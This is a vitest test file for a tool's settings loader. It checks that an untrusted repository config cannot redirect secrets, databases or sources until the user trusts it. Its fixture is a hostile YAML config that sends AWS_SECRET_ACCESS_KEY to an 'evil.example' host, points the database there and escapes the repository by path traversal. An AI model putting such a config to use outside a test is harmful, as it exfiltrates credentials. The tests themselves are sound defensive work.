import { chmodSync, mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { Environment } from "../../../src/runtime/environment.ts";
import { loadSettings } from "../../../src/runtime/load-settings.ts";
import type { Settings } from "../../../src/runtime/settings.ts";
import { addTrust } from "../../../src/runtime/trust-store.ts";
import { tempFolder } from "../../support/temp-folder.ts";

const uid = process.getuid?.();

/** A home and a repository with a nested folder, each its own place. */
function place(yaml?: string) {
  const folder = tempFolder();
  const home = join(folder.path, "home");
  const repository = join(folder.path, "repository");
  mkdirSync(home, { mode: 0o700 });
  mkdirSync(join(repository, ".git"), { recursive: true });
  mkdirSync(join(repository, "deep/er"), { recursive: true });
  if (yaml !== undefined) folder.write("repository/forensics.yaml", yaml);
  const load = (environment: Environment = {}, cwd = repository): Settings =>
    loadSettings({ environment: { HOME: home, ...environment }, cwd, uid });
  const trustFolder = join(home, ".config/forensics");
  const trust = (settings: Settings) => {
    const { path = "", digest = "" } = settings.file ?? {};
    addTrust({ folder: trustFolder, uid }, path, digest);
  };
  return { folder, home, repository, load, trust, trustFolder };
}

const hostile = `
timezone: Europe/Berlin
prompts: {support.extract: {aliases: [extract], owner: "@support"}}
sources:
  here: {connector: git, path: ., include: ["prompts/**"]}
  outside: {connector: git, path: ../../somewhere}
  langfuse: {connector: langfuse, host: "https://evil.example", secret_key: {env: AWS_SECRET_ACCESS_KEY}}
retention: {outcomes: 1d}
database: {url: {env: EVIL_DATABASE}}
`;
const loot = { EVIL_DATABASE: "postgres://evil.example/x", AWS_SECRET_ACCESS_KEY: "hunter2" };

test("a hostile file in a repository names no host, secret or database that takes effect", () => {
  const { load } = place(hostile);
  const settings = load(loot);
  expect(settings.databaseUrl).toBeUndefined();
  expect(Object.keys(settings.config.sources)).toEqual(["here"]);
  expect(settings.config.retention).toEqual({});
  expect(settings.notes).toEqual([
    "sources.outside, sources.langfuse, retention, database in ./forensics.yaml are ignored until: forensics trust",
  ]);
});

test("names, owners and zones of an untrusted file take effect", () => {
  const { config } = place(hostile).load(loot);
  expect(config.timezone).toBe("Europe/Berlin");
  expect(config.prompts["support.extract"]).toEqual({
    aliases: ["extract"],
    owner: "@support",
    parts: [],
    workflows: [],
  });
});

test("a trusted file takes effect until one byte of it changes", () => {
  const { folder, load, trust } = place(hostile);
  trust(load(loot));
  const trusted = load(loot);
  expect(trusted.databaseUrl?.reveal()).toBe("postgres://evil.example/x");
  expect(Object.keys(trusted.config.sources)).toEqual(["here", "outside", "langfuse"]);
  expect(trusted.notes).toEqual([]);
  folder.write("repository/forensics.yaml", `${hostile} `);
  expect(load(loot).databaseUrl).toBeUndefined();
});

test("trust in one file is no trust in its copy elsewhere", () => {
  const first = place(hostile);
  first.trust(first.load(loot));
  first.folder.write("other/forensics.yaml", hostile);
  const settings = first.load(loot, join(first.folder.path, "other"));
  expect(settings.databaseUrl).toBeUndefined();
});

test.each([
  ["a trust file that others may read", (at: string) => chmodSync(join(at, "trusted.json"), 0o644)],
  ["a folder that others may write to", (at: string) => chmodSync(at, 0o777)],
])("%s is ignored, and said", (_, spoil) => {
  const { load, trust, trustFolder } = place(hostile);
  trust(load(loot));
  spoil(trustFolder);
  const settings = load(loot);
  expect(settings.databaseUrl).toBeUndefined();
  expect(settings.notes[0]).toMatch(/trusted\.json is ignored: /);
});

test("a trust file of another user is ignored", () => {
  const { load, trust, repository, home } = place(hostile);
  trust(load(loot));
  const other = loadSettings({
    environment: { HOME: home, ...loot },
    cwd: repository,
    uid: (uid ?? 0) + 1,
  });
  expect(other.databaseUrl).toBeUndefined();
  expect(other.notes[0]).toMatch(/belongs to another user/);
});

test("a link inside a repository does not lead an untrusted source out of it", () => {
  const { folder, load, repository } = place("sources: {a: {connector: git, path: link/below}}");
  mkdirSync(join(folder.path, "private"));
  symlinkSync(join(folder.path, "private"), join(repository, "link"));
  expect(load().config.sources).toEqual({});
});

test("an unknown key of an untrusted source needs trust, since it may do anything", () => {
  const { load } = place("sources: {a: {connector: git, path: ., upload_pack: evil}}");
  expect(load().config.sources).toEqual({});
});

test("the file is found from a folder below, up to the git root and no further", () => {
  const { folder, load, repository } = place("timezone: UTC");
  expect(load({}, join(repository, "deep/er")).file?.shownAs).toBe(
    join(repository, "forensics.yaml"),
  );
  const bare = place();
  bare.folder.write("forensics.yaml", "timezone: UTC");
  expect(bare.load().file).toBeUndefined();
  mkdirSync(join(folder.path, "loose/inner"), { recursive: true });
  folder.write("loose/forensics.yaml", "timezone: UTC");
  expect(load({}, join(folder.path, "loose/inner")).file).toBeUndefined();
});

test("a named file needs no trust and comes before the repository's", () => {
  const { folder, load } = place("timezone: UTC");
  const named = folder.write("named.yaml", hostile);
  const settings = load({ ...loot, FORENSICS_CONFIG: named });
  expect(settings.file?.origin).toBe("named");
  expect(settings.databaseUrl?.reveal()).toBe("postgres://evil.example/x");
});

test("a named file that is missing is refused by its path", () => {
  const { load } = place();
  expect(() => load({ FORENSICS_CONFIG: "gone.yaml" })).toThrow(/gone\.yaml, which does not exist/);
});

test("a person's own file is read when there is no other, and needs no trust", () => {
  const { folder, load } = place();
  folder.write("home/.config/forensics/forensics.yaml", hostile);
  expect(load(loot).file?.origin).toBe("user");
  expect(load(loot).databaseUrl?.reveal()).toBe("postgres://evil.example/x");
});

test("the environment's database comes before the file's", () => {
  const { load, trust } = place(hostile);
  trust(load(loot));
  const url = "postgresql://localhost/mine";
  expect(load({ ...loot, FORENSICS_DATABASE_URL: url }).databaseUrl?.reveal()).toBe(url);
});

test("a database URL of another kind is refused without being shown", () => {
  const { load } = place();
  const set = () => load({ FORENSICS_DATABASE_URL: "mysql://u:hunter2@h/x" });
  expect(set).toThrow(/^FORENSICS_DATABASE_URL is not a PostgreSQL URL$/);
});

test("the data folder is the named one, else root's, else the XDG one", () => {
  const { home, load, repository } = place();
  const folderOf = (environment: Environment, user: number) =>
    loadSettings({ environment: { HOME: home, ...environment }, cwd: repository, uid: user })
      .dataFolder;
  expect(load({ FORENSICS_DATA_DIR: "here" }).dataFolder).toBe(join(repository, "here"));
  expect(folderOf({}, 0)).toBe("/var/lib/forensics");
  expect(folderOf({}, 1000)).toBe(join(home, ".local/share/forensics"));
  expect(folderOf({ XDG_DATA_HOME: "/x" }, 1000)).toBe("/x/forensics");
  expect(folderOf({ XDG_DATA_HOME: "relative" }, 1000)).toBe(join(home, ".local/share/forensics"));
});

test("a variable that looks like a misspelt one of ours is said", () => {
  const { load } = place();
  expect(load({ FORENSICS_DATABSE_URL: "postgres://h/x" }).notes).toEqual([
    "The variable FORENSICS_DATABSE_URL means nothing here; did you mean FORENSICS_DATABASE_URL?",
  ]);
  expect(load({ FORENSICS_SLACK_TOKEN: "x" }).notes).toEqual([]);
});
